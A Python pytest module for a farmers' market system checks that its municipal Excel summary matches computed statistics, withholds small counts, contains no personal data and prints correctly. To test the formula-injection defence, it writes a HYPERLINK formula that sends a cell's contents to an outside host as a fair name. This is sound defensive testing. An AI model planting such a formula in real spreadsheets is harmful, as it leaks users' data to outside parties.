"""The municipal summary workbook: read back with openpyxl, every figure it shows equals
``core.stats``; it holds no person's data; no figure rests on fewer than three vendors; it
prints in a handful of pages."""

from __future__ import annotations

import datetime as dt
import os
import re
import stat
import zipfile
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest
from openpyxl.worksheet._writer import ALL_TEMP_FILES
from pypdf import PdfReader
from sqlalchemy import distinct, func, select

from agroferia import i18n
from agroferia.core import fairs, fees, sales, settings, stats, vendors
from agroferia.core.audit import SYSTEM
from agroferia.core.errors import NotFoundError, OperationError
from agroferia.core.models import (
    Attendance,
    Category,
    Fair,
    FairDay,
    Fee,
    LaterPayment,
    Sale,
    Vendor,
)
from agroferia.reports import excel
from tests.reports.workbooks import (
    UTF8_CSV,
    WITHHELD,
    all_text,
    by_first,
    dec,
    needs_soffice,
    soffice,
    table,
    xml_parts,
)

YEAR = (dt.date(2026, 1, 1), dt.date(2026, 12, 31))
NOW = dt.datetime(2026, 11, 23, 18, 30, tzinfo=dt.UTC)
MONEY = '"S/" #,##0.00'
SHEETS = ["Resumen", "Por jornada", "Por rubro", "Participación", "Regiones", "Agrobiodiversidad"]


def charts_in(path: Path) -> list[str]:
    with zipfile.ZipFile(path) as z:
        return sorted(n for n in z.namelist() if n.startswith("xl/charts/chart"))


def read_xml(path: Path, name: str) -> str:
    with zipfile.ZipFile(path) as z:
        return z.read(name).decode("utf-8")


def kpis(ws) -> dict[str, openpyxl.cell.Cell]:
    _, rows = table(ws, "Indicador")
    return {r[0].value: r[1] for r in rows}


# ------------------------------------------------------------------ fixtures


@dataclass(frozen=True)
class Book:
    result: excel.WorkbookResult
    wb: openpyxl.Workbook
    stats: stats.Stats
    path: Path


@pytest.fixture
def demo_session(demo_year):
    with demo_year.Session() as s:
        yield s


@pytest.fixture(scope="module")
def book(demo_year, tmp_path_factory) -> Book:
    """The 2026 workbook of the demo fair, written and read back once for the module."""
    path = tmp_path_factory.mktemp("book") / "resumen.xlsx"
    with demo_year.Session() as s:
        result = excel.write_workbook(s, *YEAR, path, lang="es", now=NOW)
        figures = stats.compute(s, *YEAR)
    return Book(result, openpyxl.load_workbook(path), figures, path)


@pytest.fixture
def hand_data(session) -> dict[str, int]:
    """Two fairs; Ana (young woman, Cusco), Beto (man, no birth date, no region),
    Carla (suspended, never present).  Norte: 01/03 (300 visitors, closed) and 08/03 (no
    estimate); Sur: 01/03."""
    norte = fairs.create_fair(
        session, SYSTEM, name="Feria Norte", municipality="Municipalidad de Prueba"
    )
    sur = fairs.create_fair(session, SYSTEM, name="Feria Sur")
    d1 = fairs.add_fair_day(session, SYSTEM, norte.id, date=dt.date(2026, 3, 1), visitors=300)
    d8 = fairs.add_fair_day(session, SYSTEM, norte.id, date=dt.date(2026, 3, 8))
    s1 = fairs.add_fair_day(session, SYSTEM, sur.id, date=dt.date(2026, 3, 1), visitors=50)
    people = {}
    for key, data in {
        "ana": {"sex": "F", "birth_date": dt.date(2000, 5, 1), "region": "Cusco",
                "main_category": "Gastronomía"},
        "beto": {"sex": "M", "main_category": "Hortalizas y verduras"},
        "carla": {"sex": "F", "birth_date": dt.date(1970, 1, 2), "region": "Puno",
                  "main_category": "Artesanía", "status": "suspended"},
    }.items():  # fmt: skip
        people[key] = vendors.register(
            session,
            SYSTEM,
            {
                "given_names": key.title(),
                "surnames": "Prueba",
                "doc_number": f"4000000{len(people) + 1}",
                "fair": norte.id,
                "registered_on": dt.date(2026, 1, 10),
                **data,
            },
            today=dt.date(2026, 3, 8),
        ).id
    sales.record_sale(session, SYSTEM, d1.id, people["ana"], "100.10", payment_method="yape")
    sales.record_sale(session, SYSTEM, d8.id, people["ana"], "0.05")
    sales.record_sale(session, SYSTEM, d1.id, people["beto"], "1,234.56", category="Gastronomía")
    sales.record_sale(session, SYSTEM, s1.id, people["beto"], "99.99")
    fees.set_due(session, SYSTEM, d1.id, people["ana"], "5")
    fees.record_payment(session, SYSTEM, people["ana"], "3")
    fees.set_due(session, SYSTEM, d1.id, people["beto"], "5.50")
    fairs.close_fair_day(session, SYSTEM, d1.id)
    # Beto pays S/ 2.00 of the closed 01/03 a week later: a payment received later
    fees.record_payment(
        session, SYSTEM, people["beto"], "2", method="yape", received_on=d8.date, today=d8.date
    )
    session.commit()
    return {"norte": norte.id, "sur": sur.id, **people}


# ------------------------------------------------------------------ the whole workbook


def test_result_names_the_sheets(book):
    result, wb = book.result, book.wb
    assert result.path == book.path
    assert result.sheets == SHEETS
    assert wb.sheetnames == SHEETS
    # no temporary file left beside it
    assert [p.name for p in book.path.parent.iterdir()] == ["resumen.xlsx"]


def test_summary_kpis_equal_stats(book):
    wb, s = book.wb, book.stats
    j = s.to_json()
    ws = wb["Resumen"]
    k = kpis(ws)
    assert k["Jornadas realizadas"].value == j["fair_days"] == 47
    assert k["Visitantes (estimado)"].value == j["visitors"]
    assert k["Expositores inscritos"].value == j["vendors"]["registered"]
    assert k["Expositores activos"].value == j["vendors"]["active"]
    assert k["Expositores presentes"].value == j["vendors"]["present"]
    assert k["Mujeres presentes"].value == j["vendors"]["by_sex"]["F"]
    assert dec(k["Porcentaje de mujeres"].value) == s.share(s.vendors.by_sex["F"]) / 100
    assert k["Jóvenes presentes (15–29 años)"].value == j["vendors"]["youth"]
    assert dec(k["Porcentaje de jóvenes"].value) == s.share(s.vendors.youth) / 100
    assert k["Mujeres jóvenes presentes"].value == j["vendors"]["youth_women"]
    assert k["Presentes sin fecha de nacimiento"].value == j["vendors"]["age_not_stated"]
    assert dec(k["Ventas totales"].value) == Decimal(j["sales"]["total"])
    average = k["Promedio de ventas por expositor y jornada"].value
    assert dec(average) == Decimal(j["sales"]["average_per_vendor_day"])
    assert dec(k["Ventas de mujeres"].value) == Decimal(j["sales"]["by_sex"]["F"])
    assert dec(k["Ventas de jóvenes"].value) == Decimal(j["sales"]["youth"])
    assert dec(k["Cuotas debidas"].value) == Decimal(j["fees"]["due"])
    assert dec(k["Cuotas cobradas"].value) == Decimal(j["fees"]["paid"])
    later = k["Cuotas pagadas después del cierre"]
    assert dec(later.value) == Decimal(j["fees"]["paid_later"])
    assert dec(k["Cuotas pendientes"].value) == Decimal(j["fees"]["outstanding"])
    # formats: money, percentages as numbers, whole numbers grouped
    assert k["Ventas totales"].number_format == MONEY
    assert k["Cuotas pendientes"].number_format == MONEY
    assert k["Porcentaje de mujeres"].number_format == "0.0%"
    assert k["Expositores presentes"].number_format == "#,##0"


def test_summary_title_rows_say_what_the_document_is(book):
    wb = book.wb
    ws = wb["Resumen"]
    titles = [ws.cell(row, 1).value for row in range(1, 7)]
    assert titles == [
        "Asociación de Productores de la Agroferia Campesina de Magdalena",
        "Todas las ferias",
        "Municipalidad Distrital de Magdalena del Mar",
        "Periodo: del 01/01/2026 al 31/12/2026",
        "Generado el 23/11/2026 18:30",
        "Resumen para la municipalidad: solo cifras agregadas, sin datos personales de "
        "ningún expositor (Ley 29733).",
    ]
    assert ws["A1"].font.bold and ws["A1"].font.size == 14
    flat = [c.value for row in ws.iter_rows() for c in row]
    assert "No hubo actividad en este periodo." not in flat
    for sheet in wb.worksheets:  # and every printed page says it
        assert sheet.oddHeader.center.text == "Resumen municipal · sin datos personales"


def test_money_and_percentages_are_numbers_exact_to_the_cent(book):
    """Every money cell reads back as a number that is a whole number of céntimos, every
    percentage a whole tenth of a per cent (openpyxl writes 16 significant digits, so the
    file holds the double nearest to the Decimal written)."""
    wb = book.wb
    money = percent = 0
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value is None or cell.number_format not in (MONEY, "0.0%"):
                    continue
                assert cell.data_type == "n", (ws.title, cell.coordinate)
                exponent = Decimal(repr(float(cell.value))).as_tuple().exponent
                if cell.number_format == MONEY:
                    money += 1
                    assert exponent >= -2, (ws.title, cell.coordinate, cell.value)
                else:
                    percent += 1
                    assert exponent >= -3, (ws.title, cell.coordinate, cell.value)
    assert money > 150
    assert percent > 40


def test_by_day_sheet_equals_stats(book):
    wb, s = book.wb, book.stats
    j = s.to_json()
    headers, rows = table(wb["Por jornada"], "Fecha")
    # one fair: no column repeating its name on every row
    assert headers[:3] == ["Fecha", "Expositores presentes", "Mujeres"]
    *days, total = rows
    assert len(days) == j["fair_days"]
    sales_col, due_col, paid_col, later_col = (
        headers.index(h)
        for h in ("Ventas", "Cuotas debidas", "Cuotas cobradas", "Cuotas pagadas después")
    )
    written = {}
    for row in days:
        assert isinstance(row[0].value, dt.datetime)  # a real date, not text
        assert row[0].number_format == "dd/mm/yyyy"
        assert row[sales_col].number_format == MONEY
        written[row[0].value.date().isoformat()] = dec(row[sales_col].value)
    assert written == {d: Decimal(c) for d, c in j["sales"]["by_fair_day"].items()}
    assert total[0].value == "Total"
    assert dec(total[sales_col].value) == Decimal(j["sales"]["total"])
    assert dec(total[due_col].value) == Decimal(j["fees"]["due"])
    assert dec(total[paid_col].value) == Decimal(j["fees"]["paid"])
    assert dec(total[later_col].value) == Decimal(j["fees"]["paid_later"])
    assert total[headers.index("Visitantes")].value == j["visitors"]
    assert total[headers.index("Expositores presentes")].value == j["vendors"]["attendances"]
    assert sum(dec(r[due_col].value) for r in days) == Decimal(j["fees"]["due"])
    assert {r[headers.index("Cerrada")].value for r in days} == {"No"}
    assert total[sales_col].font.bold


def sellers_by_category(session, start: dt.date, end: dt.date) -> dict[str, int]:
    """How many vendors sold in each rubro, counted here with SQL of its own."""
    return dict(
        session.execute(
            select(Category.name, func.count(distinct(Sale.vendor_id)))
            .join(Sale, Sale.category_id == Category.id)
            .join(FairDay, FairDay.id == Sale.fair_day_id)
            .where(FairDay.date.between(start, end))
            .group_by(Category.name)
        ).all()
    )


def test_by_category_sheet_equals_stats_with_small_rubros_added_up(demo_session, book):
    wb, s = book.wb, book.stats
    j = s.to_json()
    ws = wb["Por rubro"]
    _headers, rows = table(ws, "Rubro")
    table_rows = by_first(rows)
    total = table_rows.pop("Total")
    others = table_rows.pop("Otros 2 rubros")
    sellers = sellers_by_category(demo_session, *YEAR)
    present = s.vendors.by_category
    # every rubro shown rests on three vendors or more, present and selling
    assert all(present.get(n, 0) >= 3 and sellers.get(n, 0) >= 3 for n in table_rows)
    folded = [n for n in set(present) | set(sellers) if n not in table_rows]
    assert len(folded) == 2
    assert any(present.get(n, 0) < 3 or sellers.get(n, 0) < 3 for n in folded)
    assert {name: dec(r[3].value) for name, r in table_rows.items()} == {
        name: Decimal(c) for name, c in j["sales"]["by_category"].items() if name not in folded
    }
    assert {name: r[1].value for name, r in table_rows.items()} == {
        n: c for n, c in j["vendors"]["by_category"].items() if n not in folded
    }
    assert list(table_rows) == [n for n in j["sales"]["by_category"] if n not in folded]
    assert others[1].value == sum(present.get(n, 0) for n in folded) >= 3
    assert dec(others[3].value) == sum(Decimal(j["sales"]["by_category"][n]) for n in folded)
    for name, r in table_rows.items():
        assert dec(r[2].value) == s.share(s.vendors.by_category[name]) / 100
        assert r[4].number_format == "0.0%"
        assert 0 < dec(r[4].value) < 1
    assert dec(total[3].value) == Decimal(j["sales"]["total"])
    assert total[1].value == j["vendors"]["present"]
    assert dec(total[4].value) == 1
    notes = [str(c.value) for (c,) in ws.iter_rows(min_col=1, max_col=1) if c.value]
    assert any(n.startswith("«Otros 2 rubros»") and all(f in n for f in folded) for n in notes)


def test_participation_sheet_equals_stats_and_withholds_the_small_cells(book):
    wb, s = book.wb, book.stats
    j = s.to_json()
    ws = wb["Participación"]
    headers, rows = table(ws, "Sexo", 1)
    assert headers[1:4] == ["Jóvenes (15–29 años)", "No jóvenes", "Edad no indicada"]
    present = by_first(rows)
    # two women and two men without a birth date: withheld, and so is the cell of each row
    # that would give them back (their row total and column total are published)
    groups = j["vendors"]["by_sex_youth"]
    assert groups["F"]["not_stated"] == groups["M"]["not_stated"] == 2
    for code, label in (("F", "Mujeres"), ("M", "Hombres")):
        row = present[label]
        assert row[1].value == groups[code]["youth"]
        assert [row[2].value, row[3].value] == [WITHHELD, WITHHELD]
        assert row[4].value == j["vendors"]["by_sex"][code]
    assert [present["Otro"][i].value for i in (1, 2, 3, 4)] == [0, 0, 0, 0]
    assert present["Total"][1].value == j["vendors"]["youth"]
    assert present["Total"][3].value == j["vendors"]["age_not_stated"]
    assert present["Total"][4].value == j["vendors"]["present"]
    assert dec(present["% de presentes"][1].value) == s.share(s.vendors.youth) / 100
    assert present["Mujeres"][2].alignment.horizontal == "right"  # under its header

    _headers, rows = table(ws, "Sexo", 2)
    amounts = by_first(rows)
    for code, label in (("F", "Mujeres"), ("M", "Hombres")):
        groups = j["sales"]["by_sex_youth"][code]
        row = amounts[label]
        assert dec(row[1].value) == Decimal(groups["youth"])
        assert [row[2].value, row[3].value] == [WITHHELD, WITHHELD]
        assert row[1].number_format == MONEY
        assert dec(row[4].value) == Decimal(j["sales"]["by_sex"][code])
    total = amounts["Total"]
    assert [dec(total[i].value) for i in (1, 2, 3, 4)] == [
        Decimal(j["sales"]["youth"]),
        Decimal(j["sales"]["non_youth"]),
        Decimal(j["sales"]["age_not_stated"]),
        Decimal(j["sales"]["total"]),
    ]
    women_share = amounts["Mujeres"][5]
    assert women_share.number_format == "0.0%"
    expected = (Decimal(100) * s.sales.by_sex["F"] / s.sales.total).quantize(Decimal("0.1"))
    assert dec(women_share.value) == expected / 100

    _headers, rows = table(ws, "Medio de pago")
    methods = by_first(rows)
    assert dec(methods["Efectivo"][1].value) == Decimal(j["sales"]["by_payment_method"]["cash"])
    assert dec(methods["Yape"][1].value) == Decimal(j["sales"]["by_payment_method"]["yape"])
    assert dec(methods["Total"][1].value) == Decimal(j["sales"]["total"])


def lines_of(rows: list[list], width: int) -> list[list]:
    """The rows and the columns of a table by sex × age group (the parts, then the total)."""
    body = [r[1 : width + 1] for r in rows]
    columns = [[body[i][c] for i in range(len(body))] for c in range(width)]
    return [r for r in body] + columns


def test_no_withheld_figure_can_be_worked_out_from_its_totals(book):
    """In every row and column whose total is published, a withheld part never stands
    alone (it would be the total less the others)."""
    ws = book.wb["Participación"]
    for nth in (1, 2):
        _headers, rows = table(ws, "Sexo", nth)
        grid = [
            r for r in rows if r[0].value != "% de presentes" and r[0].value != "% de las ventas"
        ]
        for line in lines_of(grid, 4):
            *parts, total = line
            if total.value == WITHHELD:
                continue
            withheld = [c for c in parts if c.value == WITHHELD]
            assert len(withheld) != 1, [c.coordinate for c in line]


def left_over_by_day(session) -> dict[dt.date, dict[str, int]]:
    """For each fair day of the one demo fair, how many vendors stand behind what its
    columns leave over (counted here with SQL of its own): those present who are not
    women, those present who are not young, those whose fee of the day is not settled."""
    low, high = settings.youth_range(session)
    found: dict[dt.date, dict[str, int]] = {}
    for day, sex, born in session.execute(
        select(FairDay.date, Vendor.sex, Vendor.birth_date)
        .join(Attendance, Attendance.fair_day_id == FairDay.id)
        .join(Vendor, Vendor.id == Attendance.vendor_id)
    ):
        counts = found.setdefault(day, {"not women": 0, "not young": 0, "unpaid": 0})
        age = (
            None
            if born is None
            else day.year - born.year - ((day.month, day.day) < (born.month, born.day))
        )
        counts["not women"] += sex != "F"
        counts["not young"] += age is None or not low <= age <= high
    later = (
        select(LaterPayment.fee_id, func.sum(LaterPayment.amount_cents).label("cents"))
        .group_by(LaterPayment.fee_id)
        .subquery()
    )
    for day, owed in session.execute(
        select(FairDay.date, Fee.due_cents - Fee.paid_cents - func.coalesce(later.c.cents, 0))
        .join(Fee, Fee.fair_day_id == FairDay.id)
        .outerjoin(later, later.c.fee_id == Fee.id)
    ):
        found.setdefault(day, {"not women": 0, "not young": 0, "unpaid": 0})["unpaid"] += owed != 0
    return found


LEFT_OVER = {  # what a day's columns leave over: (the total, the parts shown)
    "not women": ("Expositores presentes", ("Mujeres",)),
    "not young": ("Expositores presentes", ("Jóvenes",)),
    "unpaid": ("Cuotas debidas", ("Cuotas cobradas", "Cuotas pagadas después")),
}


def test_no_days_figures_give_one_or_two_vendors_by_subtraction(demo_session, book):
    """A day's present less its women are its men (and others); present less young, the
    older; fees due less paid less paid later, the unpaid: where a day shows all the figures
    of one of these, what they leave over rests on none or at least three vendors."""
    headers, rows = table(book.wb["Por jornada"], "Fecha")
    col = {h: i for i, h in enumerate(headers)}
    behind = left_over_by_day(demo_session)
    shown = withheld = 0
    for row in rows[:-1]:
        day = row[0].value.date()
        for what, (total, parts) in LEFT_OVER.items():
            if all(row[col[h]].value != WITHHELD for h in (total, *parts)):
                assert behind[day][what] == 0 or behind[day][what] >= 3, (day, what)
                shown += 1
            else:
                withheld += 1
    assert shown > withheld > 0  # most are shown; some are not


def test_a_single_day_is_withheld_alike_in_every_sheet(demo_session, tmp_path):
    """A period of one fair day with one man among those present: «Mujeres» of the day is
    the women of the whole period, withheld in Resumen, in Participación and in Por jornada
    alike (present less women would give the one man)."""
    day = demo_session.scalars(select(FairDay).order_by(FairDay.date.desc())).first()
    present = demo_session.scalars(
        select(Vendor).join(Attendance).where(Attendance.fair_day_id == day.id)
    ).all()
    for n, vendor in enumerate(present):
        vendor.sex = "M" if n == 0 else "F"
    demo_session.flush()
    try:
        path = tmp_path / "dia.xlsx"
        excel.write_workbook(demo_session, day.date, day.date, path, now=NOW)
        wb = openpyxl.load_workbook(path)
        k = kpis(wb["Resumen"])
        assert k["Expositores presentes"].value == len(present) > 3
        assert k["Mujeres presentes"].value == WITHHELD
        headers, rows = table(wb["Por jornada"], "Fecha")
        assert rows[0][headers.index("Expositores presentes")].value == len(present)
        assert rows[0][headers.index("Mujeres")].value == WITHHELD
        assert rows[1][headers.index("Mujeres")].value == WITHHELD  # the total: the same
        _headers, grid = table(wb["Participación"], "Sexo")
        women = next(r for r in grid if r[0].value == "Mujeres")
        assert women[-1].value == WITHHELD
    finally:
        demo_session.rollback()


def test_regions_sheet_equals_stats_with_small_regions_added_up(book):
    wb, s = book.wb, book.stats
    _headers, rows = table(wb["Regiones"], "Región")
    regions = by_first(rows)
    total = regions.pop("Total")
    (others,) = [k for k in regions if str(k).startswith("Otras")]
    other = regions.pop(others)
    small = {k: n for k, n in s.regions.items() if n < 3}
    assert small and others == f"Otras {len(small)} regiones"
    assert {k: r[1].value for k, r in regions.items()} == {
        k: n for k, n in s.regions.items() if k not in small
    }
    assert other[1].value == sum(small.values())
    assert all(r[1].value >= 3 for r in regions.values())
    assert dec(regions["Lima"][2].value) == s.share(s.regions["Lima"]) / 100
    assert total[1].value == s.vendors.present


def test_every_sheet_has_frozen_headers_a_filter_and_widths(book):
    wb = book.wb
    for ws in wb.worksheets:
        assert ws.freeze_panes, ws.title
        assert ws.auto_filter.ref, ws.title
        header = int(ws.auto_filter.ref.split(":")[0][1:])
        assert ws.freeze_panes.endswith(str(header + 1)), ws.title  # frozen below the headers
        assert ws.cell(header, 1).font.bold, ws.title
        widths = {k: d.width for k, d in ws.column_dimensions.items() if d.width}
        assert widths and max(widths.values()) <= 50, ws.title
    assert wb["Por jornada"].auto_filter.ref == "A4:J51"  # 47 days, total row outside


def test_every_sheet_prints_one_page_wide_with_its_headers_on_every_page(book):
    """Read back as Excel and LibreOffice read it: A4, scaled to the page's width, as many
    pages tall as needed, the header row repeated, numbers under right-aligned headers."""
    wb = book.wb
    orientation = {}
    for ws in wb.worksheets:
        setup = ws.page_setup
        assert ws.sheet_properties.pageSetUpPr.fitToPage, ws.title
        assert (setup.fitToWidth, setup.fitToHeight) == (1, 0), ws.title
        assert int(setup.paperSize) == int(ws.PAPERSIZE_A4)
        orientation[ws.title] = setup.orientation
        header = int(ws.auto_filter.ref.split(":")[0][1:])
        assert ws.print_title_rows.replace("$", "") == f"{header}:{header}", ws.title
        for cell in ws[header]:
            below = ws.cell(header + 1, cell.column)
            if below.value is not None and below.data_type == "n" and not below.is_date:
                assert cell.alignment.horizontal == "right", (ws.title, cell.coordinate)
                assert below.alignment.horizontal == "right", (ws.title, below.coordinate)
        footer = ws.oddFooter.right.text
        assert "&A" in footer and "Página &P de &N" in footer
    # the wide ones lie down, the narrow ones stand up
    assert orientation == {
        "Resumen": "landscape",
        "Por jornada": "landscape",
        "Por rubro": "portrait",
        "Participación": "portrait",
        "Regiones": "portrait",
        "Agrobiodiversidad": "portrait",
    }


@needs_soffice
def test_a_year_prints_in_a_handful_of_pages(book, tmp_path):
    """LibreOffice prints the year in a few pages (the organization's old workbook took
    168), every one headed as the municipal summary and numbered."""
    pdf = soffice(book.path, "pdf", tmp_path)
    pages = PdfReader(pdf).pages
    assert 5 <= len(pages) <= 12
    for n, page in enumerate(pages, 1):
        text = page.extract_text()
        assert "Resumen municipal" in text
        assert f"Página {n} de {len(pages)}" in text
    last = pages[-1].extract_text()
    assert "Lima" in last and "Otras" in last  # the regions, on the last page


def test_native_charts_of_sales(book):
    path = book.path
    assert charts_in(path) == ["xl/charts/chart1.xml", "xl/charts/chart2.xml"]
    by_day, by_category = (read_xml(path, f"xl/charts/chart{n}.xml") for n in (1, 2))
    assert "barChart" in by_day and "'Por jornada'!$F$5:$F$51" in by_day
    assert "'Por rubro'!$D$5:$D$11" in by_category


def test_document_properties(book):
    wb = book.wb
    props = wb.properties
    assert props.creator == "Asociación de Productores de la Agroferia Campesina de Magdalena"
    assert props.title == "Todas las ferias: resumen municipal del 01/01/2026 al 31/12/2026"
    assert props.created == NOW.replace(tzinfo=None)
    assert props.language == "es"


# ------------------------------------------------------------------ no personal data


def personal_data(session, *, complete: bool = True) -> dict[str, set[str]]:
    """What the database holds about each person that a municipal document must never
    carry, as text, by kind."""
    found: dict[str, set[str]] = {k: set() for k in (
        "document", "phone", "email", "birth date", "name", "code", "stall", "association",
        "note")}  # fmt: skip
    for v in session.scalars(select(Vendor)):
        found["document"].add(v.doc_number)
        found["name"] |= {f"{v.given_names} {v.surnames}", f"{v.surnames}, {v.given_names}"}
        found["code"].add(v.code)
        for kind, value in (("phone", v.phone), ("email", v.email),
                            ("association", v.association), ("note", v.notes)):  # fmt: skip
            if value:
                found[kind].add(value)
        found["stall"] |= {m.stall for m in v.memberships if m.stall}
        if v.birth_date:
            found["birth date"] |= {v.birth_date.strftime("%d/%m/%Y"), v.birth_date.isoformat()}
    if complete:  # the search can find something of every kind
        assert all(found.values()), {k for k, v in found.items() if not v}
    return found


def test_no_cell_comment_name_or_property_holds_a_persons_data(demo_session, book):
    wb = book.wb
    held = personal_data(demo_session)
    texts = all_text(wb)
    for kind, values in held.items():
        leaks = {v for v in values for t in texts if v in t}
        assert not leaks, (kind, sorted(leaks)[:3])
    births = {v.birth_date for v in demo_session.scalars(select(Vendor)) if v.birth_date}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                assert getattr(cell, "comment", None) is None
                if getattr(cell, "is_date", False) and cell.value is not None:
                    assert cell.value.date() not in births, (ws.title, cell.coordinate)
    assert not wb.defined_names or all(
        "Print_Titles" in name or "_FilterDatabase" in name for name in wb.defined_names
    )


def test_no_xml_part_holds_a_persons_data(demo_session, book):
    """The file itself, unzipped: sheets, strings, styles, charts, properties."""
    held = personal_data(demo_session)
    parts = xml_parts(book.path)
    assert "xl/worksheets/sheet1.xml" in parts and "docProps/core.xml" in parts
    for name, xml in parts.items():
        text = xml.replace("&amp;", "&")
        for kind, values in held.items():
            leaks = {v for v in values if v in text}
            assert not leaks, (name, kind, sorted(leaks)[:3])


def test_the_organizations_padron_holds_what_the_summary_must_not(demo_session, tmp_path):
    """The scan above would find the data: the same search in the padrón finds it all."""
    from agroferia.reports.workbook.padron import write_roster

    path = tmp_path / "padron.xlsx"
    write_roster(demo_session, "prueba", path, now=NOW.replace(tzinfo=None))
    texts = "\n".join(all_text(openpyxl.load_workbook(path)))
    for kind, values in personal_data(demo_session).items():
        if kind in ("birth date", "name"):
            continue  # dates are date cells; names are in two columns
        assert all(v in texts for v in values), kind


# ------------------------------------------------------------------ no formula from data


INJECTED = '=HYPERLINK("http://x/?d="&E9,"ver")'


def test_text_from_the_data_is_written_as_text(session, hand_data, tmp_path):
    """A fair named like a formula, a rubro «=1+1», an organization «@SUM(1)»: strings in
    the file, never formulas, and they look as typed."""
    session.get(Fair, hand_data["norte"]).name = INJECTED
    session.scalar(select(Category).where(Category.name == "Gastronomía")).name = "=1+1"
    settings.put(session, "system", "organization_name", "@SUM(1)")
    session.commit()
    path = tmp_path / "inyeccion.xlsx"
    excel.write_workbook(session, dt.date(2026, 3, 1), dt.date(2026, 3, 31), path,
                         fair_id=hand_data["norte"], now=NOW)  # fmt: skip
    wb = openpyxl.load_workbook(path)
    found = {}
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for cell in row:
                if cell.value in (INJECTED, "=1+1", "@SUM(1)"):
                    found.setdefault(cell.value, []).append(cell)
                    assert cell.data_type == "s", (ws.title, cell.coordinate)
                    assert cell.quotePrefix, (ws.title, cell.coordinate)
    assert set(found) == {INJECTED, "@SUM(1)"}  # the rubro «=1+1» is folded into «Otros»
    for name, xml in xml_parts(path).items():
        if name.startswith("xl/worksheets/"):
            assert "<f>" not in xml and "<f " not in xml, name


@needs_soffice
def test_libreoffice_does_not_evaluate_them(session, hand_data, tmp_path):
    session.get(Fair, hand_data["norte"]).name = INJECTED
    settings.put(session, "system", "organization_name", "=1+1")
    session.commit()
    path = tmp_path / "inyeccion.xlsx"
    excel.write_workbook(session, dt.date(2026, 3, 1), dt.date(2026, 3, 31), path,
                         fair_id=hand_data["norte"], now=NOW)  # fmt: skip
    text = soffice(path, UTF8_CSV, tmp_path).read_text(encoding="utf-8")  # the first sheet
    assert INJECTED.replace('"', '""') in text  # as written (CSV doubles the quotes)
    assert "=1+1" in text.splitlines()[0]
    # the check can fail: LibreOffice does compute a formula the file really holds
    control = openpyxl.Workbook()
    control.active["A1"] = "=1+1"
    control.save(tmp_path / "control.xlsx")
    assert soffice(tmp_path / "control.xlsx", UTF8_CSV, tmp_path).read_text().strip() == "2"


# ------------------------------------------------------------------ language, empty periods


def test_english_workbook(demo_session, tmp_path):
    path = tmp_path / "summary.xlsx"
    result = excel.write_workbook(demo_session, *YEAR, path, lang="en", now=NOW)
    assert i18n.get_language() == "es"  # the export's language did not leak out
    wb = openpyxl.load_workbook(path)
    assert result.sheets == wb.sheetnames
    assert wb.sheetnames == [i18n.translate(t, "en") for t in SHEETS]
    by_day = wb.worksheets[1]
    headers = [c.value for c in by_day[4]]
    assert headers[:1] == ["Date"]
    assert headers[2:5] == ["Women", "Young people", "Visitors"]
    participation = wb.worksheets[3]
    first_column = {c.value for (c,) in participation.iter_rows(min_col=1, max_col=1)}
    assert {"Women", "Men", "Cash"} <= first_column
    assert wb.properties.language == "en"
    # and every text the workbook writes is what the English catalogue says
    assert by_day["A1"].value == i18n.translate("Ventas y asistencia por jornada", "en")
    assert wb.worksheets[0].oddHeader.center.text == i18n.translate(
        "Resumen municipal · sin datos personales", "en"
    )
    notes = [c.value for (c,) in wb.worksheets[2].iter_rows(min_col=1, max_col=1) if c.value]
    assert "2 other categories" in notes


def test_empty_period_gives_a_valid_workbook(demo_session, tmp_path):
    path = tmp_path / "vacio.xlsx"
    calls = []
    excel.write_workbook(
        demo_session,
        dt.date(2020, 1, 1),
        dt.date(2020, 12, 31),
        path,
        now=NOW,
        progress=lambda done, total: calls.append((done, total)),
    )
    assert calls[-1] == (6, 6)
    wb = openpyxl.load_workbook(path)
    assert wb.sheetnames == SHEETS
    summary = [c.value for row in wb["Resumen"].iter_rows() for c in row]
    assert "No hubo actividad en este periodo." in summary
    k = kpis(wb["Resumen"])
    assert k["Jornadas realizadas"].value == 0
    assert dec(k["Ventas totales"].value) == 0
    assert k["Visitantes (estimado)"].value is None
    assert k["Visitantes (estimado)"].offset(column=1).value == "Sin estimación"
    _headers, rows = table(wb["Por jornada"], "Fecha")
    assert [r[0].value for r in rows] == ["Total"]
    assert charts_in(path) == []  # no chart of nothing


def test_empty_database_names_agroferia(session, tmp_path):
    path = tmp_path / "nuevo.xlsx"
    excel.write_workbook(session, *YEAR, path, now=NOW)
    wb = openpyxl.load_workbook(path)
    assert wb.properties.creator == "Agroferia"
    assert wb["Resumen"]["A1"].value == "Agroferia"
    assert kpis(wb["Resumen"])["Expositores inscritos"].value == 0


# ------------------------------------------------------------------ one fair, hand-made data


def test_a_small_fair_shows_what_rests_on_three_vendors_or_more(session, hand_data, tmp_path):
    """Norte in March: two vendors present. Every figure that one or two vendors stand
    behind is «—»; what remains is what stats says."""
    path = tmp_path / "norte.xlsx"
    march = (dt.date(2026, 3, 1), dt.date(2026, 3, 31))
    excel.write_workbook(session, *march, path, fair_id=hand_data["norte"], now=NOW)
    s = stats.compute(session, *march, hand_data["norte"])
    j = s.to_json()
    assert j["sales"]["total"] == "1334.71"  # 100.10 + 0.05 + 1,234.56; not Sur's 99.99
    wb = openpyxl.load_workbook(path)

    ws = wb["Resumen"]
    assert ws["A2"].value == "Feria Norte"
    assert ws["A3"].value == "Municipalidad de Prueba"
    k = kpis(ws)
    # counts of everyone, no breakdown: published
    assert k["Jornadas realizadas"].value == 2
    assert k["Visitantes (estimado)"].value == 300
    assert k["Visitantes (estimado)"].offset(column=1).value == "(estimado en 1 de 2 jornadas)"
    assert k["Expositores inscritos"].value == j["vendors"]["registered"] == 3
    assert k["Expositores presentes"].value == 2
    # one woman, one young person, one without a birth date, the sales of two people, and
    # the one suspended vendor (registered less active): withheld
    for label in ("Mujeres presentes", "Porcentaje de mujeres", "Jóvenes presentes (15–29 años)",
                  "Mujeres jóvenes presentes", "Presentes sin fecha de nacimiento",
                  "Ventas totales", "Promedio de ventas por expositor y jornada",
                  "Ventas de mujeres", "Ventas de jóvenes", "Cuotas debidas",
                  "Cuotas cobradas", "Cuotas pagadas después del cierre", "Cuotas pendientes",
                  "Expositores activos"):  # fmt: skip
        assert k[label].value == WITHHELD, label
        assert k[label].alignment.horizontal == "right"

